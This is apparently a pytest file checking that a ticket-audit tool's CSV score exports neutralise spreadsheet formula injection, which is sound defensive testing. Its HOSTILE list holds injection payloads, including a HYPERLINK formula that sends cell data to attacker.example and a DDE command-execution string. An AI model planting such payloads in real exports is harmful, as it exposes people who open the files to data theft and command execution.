"""scores.csv never carries a formula: a name such as ``=HYPERLINK(...)`` is text in any spreadsheet."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from core_helpers import holdthread

from holdthread.linter.models import Report
from holdthread.linter.qa import spreadsheet_safe
from holdthread.server.store import CheckRecord, FindingsStore

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_with_a_formula_character_is_text(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["Dana Lee", "-12", "+3.5", "T-1042", 42, "", "a=b"])
def test_ordinary_cells_are_left_as_they_are(value: object) -> None:
    assert spreadsheet_safe(value) == value


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as stream:
        return [cell for row in csv.reader(stream) for cell in row]


def test_audit_scores_csv_neutralises_hostile_agents_teams_and_ids(tmp_path: Path) -> None:
    export = tmp_path / "tickets.jsonl"
    lines = []
    for index, value in enumerate(HOSTILE):
        lines.append(
            json.dumps(
                {
                    "id": f"{value}#{index}",
                    "subject": value,
                    "group": value,
                    "assignee": {"name": value},
                    "comments": [
                        {
                            "id": "c1",
                            "author": {"role": "agent", "name": value},
                            "public": False,
                            "body": "Escalating to billing: the export fails with error 500.",
                        }
                    ],
                }
            )
        )
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    holdthread("audit", export, "--out", out, "--jobs", "1", "--no-cache")
    cells = _cells(out / "scores.csv")
    assert len(cells) > len(HOSTILE) * 3
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-"))]
    assert f"'{HOSTILE[0]}" in cells


def test_scores_from_the_service_store_neutralises_hostile_names(tmp_path: Path) -> None:
    store_url = f"sqlite:///{tmp_path / 'findings.db'}"
    store = FindingsStore(store_url)
    store.create()
    for index, value in enumerate(HOSTILE):
        report = Report(ticket_id=f"T-{index}", verdict="pass", score=100)
        store.record(
            CheckRecord(source="api", ticket_id=value, report=report, timed_out=False, agent=value, team=value),
            include_bodies=False,
        )
    store.close()
    out = tmp_path / "scores.csv"
    run = holdthread("scores", "--store", store_url, "--since", "1d", "--out", out)
    assert run.exit_code == 0, run.stderr
    cells = _cells(out)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r", "-"))]
    assert f"'{HOSTILE[3]}" in cells
